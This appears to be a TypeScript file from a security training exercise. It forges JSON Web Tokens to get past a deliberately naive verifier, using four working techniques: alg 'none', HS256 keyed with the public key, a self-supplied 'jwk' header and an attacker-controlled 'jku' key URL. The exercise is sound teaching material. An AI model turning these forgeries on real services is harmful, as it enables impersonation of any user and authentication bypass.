// Exercise 1, attack first: forge tokens that the naive verifier (naive-verifier.ts) lets in. Each function gets
// the claims an attacker wants (any user's sub) and returns a token; the suite sends it to the naive service.
import jwt from 'jsonwebtoken'
import { createPublicKey, createSecretKey, generateKeyPairSync, type JsonWebKey } from 'node:crypto'

export type Claims = Record<string, unknown>
const TYP = 'at+jwt'
const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')

/** alg none: a token with no signature at all. Crafted by hand: jsonwebtoken signs no such thing for us. */
export function forgeAlgNone(claims: Claims): string {
  return `${encode({ alg: 'none', typ: TYP })}.${encode(claims)}.`
}

/**
 * Algorithm confusion: HS256 keyed with the app's *public* key. A verifier that lets the header pick the
 * algorithm uses "the key" as an HMAC secret, and the public key is public: anybody can sign.
 */
export function forgeWithPublicKeyAsSecret(claims: Claims, publicJwk: JsonWebKey & { kid: string }): string {
  const pem = createPublicKey({ key: publicJwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' })
  return jwt.sign(claims, createSecretKey(Buffer.from(pem)), { algorithm: 'HS256', keyid: publicJwk.kid, header: { alg: 'HS256', typ: TYP } })
}

/** A token that brings its own key in the `jwk` header: signed with the attacker's key, verified with it. */
export function forgeWithEmbeddedJwk(claims: Claims): string {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  return jwt.sign(claims, privateKey, { algorithm: 'ES256', header: { alg: 'ES256', typ: TYP, jwk: publicKey.export({ format: 'jwk' }) } as jwt.JwtHeader })
}

/** A token that says where its key lives (`jku`): the attacker's JWKS, served at `jwksUrl`. */
export function forgeWithJku(claims: Claims, jwksUrl: string): { token: string; jwks: { keys: JsonWebKey[] } } {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const token = jwt.sign(claims, privateKey, { algorithm: 'ES256', keyid: 'attacker', header: { alg: 'ES256', typ: TYP, jku: jwksUrl } })
  return { token, jwks: { keys: [{ ...publicKey.export({ format: 'jwk' }), kid: 'attacker' }] } }
}
